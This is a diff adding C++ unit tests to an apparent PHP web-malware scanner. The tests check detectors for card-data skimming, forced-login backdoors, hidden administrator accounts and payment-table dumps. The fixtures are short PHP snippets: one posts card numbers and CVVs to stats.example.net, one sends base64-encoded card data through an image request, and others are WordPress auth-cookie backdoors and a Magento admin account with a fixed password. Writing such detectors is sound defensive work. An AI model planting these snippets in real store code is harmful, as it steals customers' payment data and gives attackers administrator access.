@@ -153,5 +153,93 @@ TEST(PhpFacts, CardNumbersMailedAreACardCopy) {
                    "php.card_data_mailer"));
 }
 
+const CodeTrait* Find(const std::vector<CodeTrait>& t, std::string_view id) {
+  for (const CodeTrait& c : t)
+    if (c.id == id) return &c;
+  return nullptr;
+}
+
+TEST(PhpFacts, CardDataSentToAHostNamedInTheCode) {
+  // A payment model patched to post each card away: medium with the host named (a gateway's
+  // own host is dropped later, in findings.cc, by the list of payment providers)...
+  std::vector<CodeTrait> plain =
+      Traits(CardMailer,
+             "<?php $d = array('n' => $info->getCcNumber(), 'c' => $info->getCcCid());\n"
+             "$ch = curl_init('https://stats.example.net/collect');\n"
+             "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($d)); curl_exec($ch);");
+  const CodeTrait* sent = Find(plain, "php.card_data_sender");
+  ASSERT_NE(sent, nullptr);
+  EXPECT_EQ(sent->strength, 2);
+  EXPECT_EQ(sent->target_host, "stats.example.net");
+  // ...high when the card values are encoded on the way or the destination is an image.
+  const CodeTrait* hidden =
+      Find(Traits(CardMailer,
+                  "<?php $line = base64_encode($p->getCcNumber() . '|' . $p->getCcCid());\n"
+                  "@file_get_contents('http://img.example.org/p.gif?d=' . urlencode($line));"),
+           "php.card_data_sender");
+  ASSERT_NE(hidden, nullptr);
+  EXPECT_EQ(hidden->strength, 3);
+  // A request that carries no card field, or card data kept in the store, is not it.
+  EXPECT_EQ(Find(Traits(CardMailer,
+                        "<?php $n = $order->getCcNumber(); $this->save($n);\n"
+                        "$r = file_get_contents('https://api.example.com/rates?c=' . $cur);"),
+                 "php.card_data_sender"),
+            nullptr);
+}
+
+void ForcedLogin(const std::vector<Token>& t, const PhpTaint& taint, std::vector<CodeTrait>& out) {
+  AnalyzeForcedLogin(t, taint, "php", out);
+}
+
+TEST(PhpFacts, FixedAccountLoginOnARequestIsABackdoor) {
+  EXPECT_TRUE(Has(Traits(ForcedLogin,
+                         "<?php add_action('init', function () { if (isset($_GET['go'])) {\n"
+                         " wp_set_current_user(1); wp_set_auth_cookie(1); } });"),
+                  "php.forced_login"));
+  EXPECT_TRUE(Has(Traits(ForcedLogin,
+                         "<?php if ($_COOKIE['k'] == 'x') { $u = get_user_by('login', 'admin');\n"
+                         " wp_set_auth_cookie($u->ID); }"),
+                  "php.forced_login"));
+  // A "switch to user" feature checks the capability and a nonce first.
+  EXPECT_FALSE(Has(Traits(ForcedLogin,
+                          "<?php if (current_user_can('edit_users') &&\n"
+                          " wp_verify_nonce($_GET['_n'], 'switch')) {\n"
+                          " wp_set_auth_cookie((int) $_GET['user']); }"),
+                   "php.forced_login"));
+  // A login form signs in with the password the visitor gave.
+  EXPECT_FALSE(Has(Traits(ForcedLogin,
+                          "<?php $u = wp_signon(array('user_login' => $_POST['log'],\n"
+                          " 'user_password' => $_POST['pwd'])); wp_set_current_user(1);"),
+                   "php.forced_login"));
+}
+
+void AccountAndData(const std::vector<Token>& t, const PhpTaint&, std::vector<CodeTrait>& out) {
+  AnalyzeStoreAccountAndDataTheft(t, "php", out);
+}
+
+TEST(PhpFacts, AdministratorsWithAFixedPasswordAndPaymentTableDumps) {
+  EXPECT_TRUE(Has(Traits(AccountAndData,
+                         "<?php $u = Mage::getModel('admin/user'); $u->setData(array("
+                         "'username' => 'support', 'password' => 'x1x2x3x4', 'is_active' => 1))"
+                         "->save(); $u->setRoleIds(array(1))->saveRelations();"),
+                  "php.fixed_admin_account"));
+  // The admin form saves what the person typed.
+  EXPECT_FALSE(Has(Traits(AccountAndData,
+                          "<?php $u = $this->userFactory->create(); $u->setData($data);"
+                          " $u->setPassword($data['password']); $u->setRoleId($roleId);"
+                          " $u->save();"),
+                   "php.fixed_admin_account"));
+  EXPECT_TRUE(Has(Traits(AccountAndData,
+                         "<?php require __DIR__ . '/app/bootstrap.php'; $c = $om->get('R')"
+                         "->getConnection(); echo json_encode($c->fetchAll("
+                         "'SELECT * FROM sales_order_payment'));"),
+                  "php.store_data_dump"));
+  // A report of the store's own orders inside the application is not a page of its own.
+  EXPECT_FALSE(Has(Traits(AccountAndData,
+                          "<?php $rows = $c->fetchAll('SELECT method FROM sales_order_payment');"
+                          " echo count($rows);"),
+                   "php.store_data_dump"));
+}
+
 }  // namespace
 }  // namespace tq::webroot::php
